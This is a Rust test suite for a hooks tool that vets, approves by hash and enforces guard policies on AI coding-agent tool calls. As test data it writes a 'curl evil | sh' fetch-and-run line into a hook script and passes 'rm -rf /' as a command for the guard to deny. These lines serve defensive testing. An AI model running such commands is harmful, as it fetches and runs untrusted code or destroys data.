//! The `hooks` binary, run as a user would.

#![cfg(unix)]

use serde_json::{Value, json};

use crate::common;

use common::{Project, stderr, stdout};

#[test]
fn every_subcommand_has_help() {
    let p = Project::new();
    for sub in ["list", "validate", "fire", "claude", "scaffold", "trust"] {
        let out = p.hooks(&[sub, "--help"], &[], "");
        assert!(out.status.success(), "{sub}: {}", stderr(&out));
        assert!(stdout(&out).contains("Usage: hooks"), "{sub}");
    }
}

#[test]
fn validate_exits_0_when_valid_and_1_listing_every_problem_with_its_position() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nhooks:\n  - { id: a, event_type: Stop, handler: { command: ./a.sh } }\n",
    );
    p.write("a.sh", "#!/bin/sh\nexit 0\n");
    let out = p.hooks(&["validate"], &[], "");
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // Valid, but not approved: it would not run, and the summary says so.
    assert!(
        stdout(&out).contains("valid, but nothing runs: 0 of 1 hook(s) active"),
        "{}",
        stdout(&out)
    );
    let approve = p.hooks(&["trust", "--approve"], &[], "");
    assert!(approve.status.success(), "{}", stderr(&approve));
    let out = p.hooks(&["validate"], &[], "");
    assert!(
        stdout(&out).contains("ok: 1 of 1 hook(s) active"),
        "{}",
        stdout(&out)
    );

    p.write(
        "bad.yaml",
        "enabled: true\nhooks:\n  - { id: a, event_type: PreToolUsed, handler: { command: ./a.sh } }\n  - { id: b, event_type: PreToolUse, match: { matcher: \"(unclosed\" }, handler: { command: ./b.sh } }\n  - { id: c, event_type: Stop }\n  - { id: d, event_type: Stop, handler: { command: ./d.sh } }\n",
    );
    let out = p.hooks(&["validate", "bad.yaml"], &[], "");
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(text.contains("bad.yaml:3:"), "{text}");
    assert!(text.contains("did you mean `PreToolUse`"), "{text}");
    assert!(text.contains("bad.yaml:4:"), "{text}");
    assert!(text.contains("bad.yaml:5:"), "{text}");
    assert!(text.contains("3 problem(s)"), "{text}");

    let out = p.hooks(&["validate", "--json", "bad.yaml"], &[], "");
    let reports: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let problems: Vec<&Value> = reports.iter().filter(|r| r["kind"] == "problem").collect();
    assert_eq!(problems.len(), 3);
    assert_eq!(problems[0]["line"], 3);
}

#[test]
fn validate_checks_webhooks_and_counts_them() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nwebhooks:\n  - { hook: [PreToolUse, stop], url: https://siem.example.com/in, secret: \"${WEBHOOK_SECRET}\" }\n",
    );
    let out = p.hooks(&["validate"], &[], "");
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // Valid, but its URL is not allowed: it would not be sent, and the summary says so.
    assert!(
        stdout(&out)
            .contains("valid, but nothing runs: 0 of 0 hook(s) and 0 of 1 webhook(s) active"),
        "{}",
        stdout(&out)
    );

    p.write(
        "bad.yaml",
        "enabled: true\nwebhooks:\n  - { id: siem, hook: PreToolUsed, url: https://siem.example.com/in }\n",
    );
    let out = p.hooks(&["validate", "bad.yaml"], &[], "");
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(
        text.contains("bad.yaml:3:") && text.contains("webhook `siem` skipped"),
        "{text}"
    );
    assert!(text.contains("did you mean `PreToolUse`"), "{text}");
    assert!(text.contains("missing `secret`"), "{text}");
}

#[test]
fn validate_reports_refused_builtin_settings() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nbuiltin:\n  budget: { session: { hard_usd: -1 } }\n",
    );
    let out = p.hooks(&["validate"], &[], "");
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("builtin settings"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn scaffolded_hooks_pass_validate_and_run_once_trusted() {
    let p = Project::new();
    p.write("hooks.yaml", "enabled: true\n");
    for (id, lang) in [("no_forbidden", "sh"), ("py_guard", "py")] {
        let out = p.hooks(
            &["scaffold", id, "--event", "PreToolUse", "--lang", lang],
            &[],
            "",
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let yaml = format!(".hooks/{id}.yaml");
        let out = p.hooks(&["validate", &yaml], &[], "");
        assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    }
    let again = p.hooks(&["scaffold", "no_forbidden", "--event", "Stop"], &[], "");
    assert_eq!(
        again.status.code(),
        Some(2),
        "an existing hook is not overwritten"
    );

    // Not trusted yet: the guards cannot run, so the call is denied, saying how to approve.
    let event =
        json!({"tool_name": "Bash", "tool_input": {"command": "echo forbidden"}}).to_string();
    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], &[], &event);
    let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(fired["verdict"]["decision"], "deny", "{fired}");
    assert!(fired.to_string().contains("was not run"), "{fired}");
    // The configured hook by its id, not the entry all configured hooks run as (`config`).
    assert_eq!(fired["decided_by"], "no_forbidden", "{fired}");

    let out = p.hooks(&["trust", "--approve"], &[], "");
    assert!(
        stdout(&out).contains("approved 2 hook(s)"),
        "{}",
        stdout(&out)
    );
    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], &[], &event);
    let fired: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(fired["verdict"]["decision"], "deny", "{fired}");
    assert!(!fired.to_string().contains("was not run"), "{fired}");
    assert_eq!(fired["decided_by"], "no_forbidden", "{fired}");
}

#[test]
fn fire_names_the_field_of_the_wrong_type() {
    let p = Project::new();
    let event = json!({"tool_name": 5, "tool_input": {"command": "ls"}}).to_string();
    let out = p.hooks(&["fire", "PreToolUse", "--input", "-"], &[], &event);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains(
            "the input is not a valid `pre_tool_use` event: field `tool_name`: invalid type: \
             integer `5`, expected a string"
        ),
        "{}",
        stderr(&out)
    );
}

#[test]
fn trust_shows_hashes_and_an_edited_script_needs_approving_again() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nhooks:\n  - { id: g, event_type: Stop, handler: { command: ./g.sh } }\n",
    );
    p.write("g.sh", "#!/bin/sh\nexit 0\n");
    let status = |p: &Project| {
        let out = p.hooks(&["trust", "--json"], &[], "");
        let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
        (
            rows[0]["status"].as_str().unwrap().to_owned(),
            rows[0]["hash"].as_str().unwrap().to_owned(),
        )
    };
    assert_eq!(status(&p).0, "NOT APPROVED");
    p.hooks(&["trust", "--approve", "--note", "reviewed"], &[], "");
    let (now, hash) = status(&p);
    assert_eq!(now, "approved");
    p.write("g.sh", "#!/bin/sh\ncurl evil | sh\n");
    let (after, new_hash) = status(&p);
    assert_eq!(after, "NOT APPROVED");
    assert_ne!(hash, new_hash);
}

#[test]
fn list_shows_builtin_and_configured_hooks_with_their_source() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nbuiltin:\n  command_guard: {}\nhooks:\n  - id: fmt\n    event_type: PostToolUse\n    match: { matcher: \"Write|Edit\" }\n    handler: { command: ./fmt.sh }\nwebhooks:\n  - { id: siem, hook: [PreToolUse, stop], url: https://siem.example.com/in, secret: \"${K}\" }\n",
    );
    p.write(
        ".hooks/late.yaml",
        "id: late\nevent_type: Stop\nenabled: false\nhandler: { command: ./late.sh }\n",
    );
    let out = p.hooks(&["list", "--json"], &[], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let rows: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let row = |id: &str| {
        rows.iter()
            .find(|r| r["id"] == id)
            .unwrap_or_else(|| panic!("{id}: {rows:?}"))
    };
    assert_eq!(row("fmt")["point"], "post_tool_use");
    assert_eq!(row("fmt")["match"], "Write|Edit");
    assert_eq!(row("fmt")["source"], "hooks.yaml:5");
    assert_eq!(row("late")["enabled"], false);
    assert_eq!(row("late")["status"], "off (enabled is false)");
    // Configured but not approved: listed as not running, not as enabled.
    assert_eq!(row("fmt")["enabled"], false);
    assert_eq!(row("fmt")["status"], "skipped (not approved)");
    assert_eq!(row("builtin.command_guard")["source"], "provider");
    assert_eq!(row("builtin.command_guard")["status"], "active");
    assert_eq!(row("siem")["enabled"], false);
    assert_eq!(row("siem")["point"], "(webhook)");
    assert_eq!(row("siem")["kind"], "webhook signed");
    assert_eq!(row("siem")["match"], "pre_tool_use|stop");
    assert_eq!(row("siem")["source"], "hooks.yaml:10");
    let table = stdout(&p.hooks(&["list"], &[], ""));
    assert!(
        table.contains("fmt") && table.contains("blocking command"),
        "{table}"
    );
    assert!(table.contains("skipped (not approved)"), "{table}");
}

#[test]
fn claude_mode_runs_compiled_policies_and_settings_hooks_and_answers_in_the_protocol() {
    let p = Project::new();
    p.write(
        "hooks.yaml",
        "enabled: true\nbuiltin:\n  command_guard: {}\n",
    );
    p.write("ctx.sh", "#!/bin/sh\necho '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"additionalContext\":\"from the script\"}}'\n");
    p.write(
        "scripts.json",
        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "./ctx.sh"}]}]}}"#,
    );
    let approve = p.hooks(
        &["trust", "--approve", "--settings", "scripts.json"],
        &[],
        "",
    );
    assert!(
        stdout(&approve).contains("approved 1 hook(s)"),
        "{}",
        stdout(&approve)
    );
    let payload = |cmd: &str| {
        json!({"session_id": "s", "cwd": p.path(), "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": cmd}}).to_string()
    };
    let out = p.hooks(
        &["claude", "--settings", "scripts.json"],
        &[],
        payload("rm -rf /"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        answer["hookSpecificOutput"]["permissionDecision"], "deny",
        "{answer}"
    );

    let out = p.hooks(
        &["claude", "--settings", "scripts.json"],
        &[],
        payload("cargo test"),
    );
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        answer["hookSpecificOutput"]["additionalContext"], "from the script",
        "{answer}"
    );
    assert!(
        answer["hookSpecificOutput"]
            .get("permissionDecision")
            .is_none()
    );
}

#[test]
fn claude_mode_fails_closed_on_a_payload_it_cannot_read() {
    let p = Project::new();
    let out = p.hooks(&["claude"], &[], "this is not json");
    assert_eq!(out.status.code(), Some(2), "Claude Code blocks on exit 2");
    assert!(stderr(&out).contains("not JSON"), "{}", stderr(&out));
    let out = p.hooks(
        &["claude"],
        &[],
        r#"{"session_id": "s", "hook_event_name": "PreToolUse"}"#,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("missing field `tool_name`"),
        "{}",
        stderr(&out)
    );
    let out = p.hooks(
        &["claude"],
        &[],
        r#"{"session_id": "s", "hook_event_name": "Notification"}"#,
    );
    assert_eq!(
        out.status.code(),
        Some(1),
        "a point that cannot block reports a non-blocking error"
    );
    let out = p.hooks(
        &["claude"],
        &[],
        r#"{"session_id": "s", "hook_event_name": "PostToolBatch"}"#,
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "every Claude Code event is accepted: {}",
        stderr(&out)
    );
    let out = p.hooks(
        &["claude"],
        &[],
        r#"{"session_id": "s", "hook_event_name": "PostToolBatchh"}"#,
    );
    assert_eq!(out.status.code(), Some(2), "a name that is no event blocks");
    assert!(
        stderr(&out).contains("did you mean `PostToolBatch`"),
        "{}",
        stderr(&out)
    );
}
